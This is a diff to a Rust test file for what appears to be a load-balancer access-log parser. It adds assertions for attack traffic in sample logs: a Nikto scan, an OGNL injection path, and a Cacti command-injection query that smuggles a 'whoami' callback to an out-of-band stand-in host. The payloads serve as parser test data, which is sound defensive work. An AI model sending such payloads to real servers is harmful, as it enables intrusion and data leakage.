@@ -55,7 +55,7 @@ pub(crate) fn fixture(sub: &str, name: &str) -> Option<String> {
 #[test]
 fn sample_file_every_line() {
     let o = outcomes(SAMPLE, None);
-    assert_eq!(o.len(), 25);
+    assert_eq!(o.len(), 31);
 
     // 1: plain http, 29 fields.
     let r = req(&o[0]);
@@ -283,13 +283,58 @@ fn sample_file_every_line() {
     assert_eq!(r.path.as_deref(), Some("/crlf"));
     assert_eq!(r.backend_status, Some(200));
 
-    // 25: malformed `"- http://host:80-/ "` with 200, no final newline.
+    // 25: malformed `"- http://host:80-/ "` with 200.
     let r = req(&o[24]);
     assert_eq!(r.status, Some(200));
     assert_eq!(r.method, None);
     assert_eq!(r.host.as_deref(), Some("internal.example.org"));
     assert_eq!(r.client_ip, ip("127.0.0.1"));
     assert_eq!(format_rfc3339(r.time), "2024-03-05T10:17:00.748149Z");
+
+    // 26: Nikto scanner UA, HEAD.
+    let r = req(&o[25]);
+    assert_eq!(r.method.as_deref(), Some("HEAD"));
+    assert!(r.user_agent.as_deref().unwrap().contains("(Nikto/2.1.6)"));
+    assert_eq!(r.client_ip, ip("192.0.2.100"));
+    assert_eq!(r.host.as_deref(), Some("10.20.2.105"));
+
+    // 27: URL-encoded OGNL injection in the path, WAF 404.
+    let r = req(&o[26]);
+    assert!(
+        r.path
+            .as_deref()
+            .unwrap()
+            .starts_with("/%24%7B%28%23a%3D%40org.apache")
+    );
+    assert_eq!(r.query, None);
+    assert_eq!((r.status, r.backend_status), (Some(404), None));
+
+    // 28: Cacti command injection in the query.
+    let r = req(&o[27]);
+    assert_eq!(r.path.as_deref(), Some("/remote_agent.php"));
+    assert_eq!(
+        r.query.as_deref(),
+        Some(
+            "action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.oast.example"
+        )
+    );
+    assert_eq!(r.host.as_deref(), Some("cacti.example.org"));
+
+    // 29: POST probe answered 400 by the LB itself.
+    let r = req(&o[28]);
+    assert_eq!(
+        (r.method.as_deref(), r.path.as_deref()),
+        (Some("POST"), Some("/cgi-bin/login.cgi"))
+    );
+    assert_eq!(
+        (r.status, r.backend.as_deref(), r.total_time_us),
+        (Some(400), None, None)
+    );
+    assert_eq!(r.trace_id, None);
+
+    // 30: NLB line of dashes; 31: failed mTLS connection log, no final newline.
+    assert_eq!(o[29], Outcome::Rejected(Reject("nlb-record")));
+    assert_eq!(o[30], Outcome::Rejected(Reject("alb-connection-log")));
 }
 
 #[test]
@@ -557,7 +602,7 @@ mod fuzz {
 
         #[test]
         fn mutated_lines(
-            which in 0usize..25,
+            which in 0usize..31,
             edits in proptest::collection::vec((any::<prop::sample::Index>(), 0u8..4, any::<char>()), 1..6),
         ) {
             let mut b: Vec<u8> = SAMPLE.split('\n').nth(which).unwrap().as_bytes().to_vec();
